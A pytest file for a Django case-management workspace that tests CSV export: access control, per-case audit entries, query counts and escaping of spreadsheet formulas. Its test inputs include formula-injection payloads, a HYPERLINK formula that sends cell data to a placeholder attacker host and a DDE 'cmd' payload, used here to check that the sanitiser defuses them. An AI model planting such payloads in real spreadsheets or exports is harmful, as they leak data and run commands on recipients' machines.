"""The list of cases as a file: what the gate gives, audited, and harmless in a spreadsheet."""

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from permissions.models import AuditEvent, Body, MatrixVersion
from permissions.rules.actions import Action
from permissions.rules.body_matrix import DEFAULT
from permissions.rules.matrix import Role
from staff_workspace.documents.case_table import harmless, table_file
from staff_workspace.models import Case
from tests.permissions.access_relations import grant, wall
from tests.workspace_people import RECEIVED, make_team


def exported(client: Client, user: Any, query: str = "?state=all") -> list[list[str]]:
    """The rows of the file, without its heads."""
    client.force_login(user)
    answer = client.get(reverse("staff_workspace:export") + query)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="hwe-cases-')
    assert answer.headers["Cache-Control"] == "private, no-store"
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))[1:]


@pytest.fixture
def client(body: Body, client_for: Callable[..., Client]) -> Client:
    """A browser at the body's site."""
    return client_for(body)


def test_a_handler_exports_what_the_filters_leave_and_no_contact_detail(
    client: Client, make_case: Callable[..., Case], people: dict[str, Any]
) -> None:
    make_case(), make_case(state="closed")
    rows = exported(client, people["officer"], "?state=open")
    assert [row[0] for row in rows] == ["HWE-2026-0001"]
    assert rows[0][1:6] == [
        "Complaint",
        "Complaint by a daughter for the patient",
        "New",
        "Not graded",
        "2026-11-19",
    ]
    said = str(exported(client, people["officer"]))
    for private in ("Nia", "Owen", "nia@example.org", "9991234567", "Sample Street"):
        assert private not in said


def test_a_case_behind_a_wall_or_of_another_team_is_in_no_file(
    client: Client, make_case: Callable[..., Case], people: dict[str, Any]
) -> None:
    seen, hidden = make_case(), make_case()
    wall(hidden, people["officer"], people["governance"])
    assert [row[0] for row in exported(client, people["officer"])] == [seen.reference]
    assert len(exported(client, people["governance"])) == 2


def test_a_guest_reads_a_case_and_takes_no_file_of_it(
    client: Client, case: Case, people: dict[str, Any]
) -> None:
    grant(case, Role.VIEWER, user=people["colleague"])
    assert exported(client, people["colleague"]) == []
    page = client.get(reverse("staff_workspace:cases"))
    assert case.reference in page.content.decode()
    assert "Export to a file" not in page.content.decode()


def test_a_body_may_keep_export_from_its_handlers(
    client: Client, case: Case, body: Body, people: dict[str, Any]
) -> None:
    row = {a: s for a, s in DEFAULT.rows[Role.HANDLER].items() if a is not Action.EXPORT}
    body.matrix = MatrixVersion.objects.create(
        body=body,
        number=1,
        data=DEFAULT.with_row(Role.HANDLER, row).to_dict(),
        made_by_name="Test",
        made_at=RECEIVED,
    )
    body.save()
    assert exported(client, people["officer"]) == []
    assert len(exported(client, people["governance"])) == 1


def test_the_audit_says_how_many_went_out_and_by_which_filters(
    client: Client, case: Case, people: dict[str, Any]
) -> None:
    exported(client, people["officer"], "?state=all&q=HWE")
    row = AuditEvent.objects.order_by("-pk")[0]
    assert (row.detail["screen"], row.detail["exported"]) == ("export", 1)
    assert row.detail["filters"]["text"] == "HWE"


def test_each_case_that_went_out_says_so_in_its_own_history_and_under_what(
    client: Client, make_case: Callable[..., Case], people: dict[str, Any], body: Body
) -> None:
    ours, shared, hidden = make_case(), make_case(), make_case()
    make_case(state="closed")
    pals = make_team(body, "pals", Role.HANDLER)
    Case.objects.filter(pk=shared.pk).update(owner_team=pals)
    given = grant(shared, Role.HANDLER, user=people["officer"])
    wall(hidden, people["officer"], people["governance"])
    assert len(exported(client, people["officer"], "?state=open&q=HWE")) == 2
    rows = AuditEvent.objects.filter(action=Action.EXPORT)
    assert {(row.object_ref, row.under) for row in rows} == {
        (ours.reference, "team Nursing"),
        (shared.reference, f"grant {given.pk}"),
    }
    assert {(row.actor_name, row.body_key, row.outcome) for row in rows} == {
        ("hwe.officer", "hwe", "done")
    }
    assert "q=HWE" not in str([row.detail for row in rows]), "what was sought may name another"
    client.force_login(people["governance"])
    page = client.get(reverse("staff_workspace:history", args=[ours.reference]))
    assert "Exported in a list" in page.content.decode()
    page = client.get(reverse("staff_workspace:history", args=[hidden.reference]))
    assert "Exported in a list" not in page.content.decode()


def test_a_long_list_is_exported_and_audited_in_as_many_questions_as_a_short_one(
    client: Client, make_case: Callable[..., Case], people: dict[str, Any]
) -> None:
    def asked() -> int:
        with CaptureQueriesContext(connection) as queries:
            exported(client, people["officer"])
        return len(queries)

    make_case()
    asked()
    few = asked()
    for _ in range(20):
        make_case()
    assert asked() == few


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+44 7700",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\ufeff=1+1",
        "＝1+1",
        '=HYPERLINK("https://evil.example.net?"&A1)',
    ],
)
def test_no_cell_is_a_formula(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


def test_other_cells_stay_as_they_are_whatever_they_hold() -> None:
    cells = ['He said "no", twice', "two\nlines", "Ana O’Brien", "2026-11-19", ""]
    (_, row) = csv.reader(io.StringIO(table_file(["a"] * 5, [cells]).decode("utf-8-sig")))
    assert row == cells


def test_a_formula_in_a_headline_arrives_as_text(
    client: Client, make_case: Callable[..., Case], people: dict[str, Any]
) -> None:
    make_case(headline="=cmd|' /C calc'!A0")
    assert exported(client, people["officer"])[0][2] == "'=cmd|' /C calc'!A0"
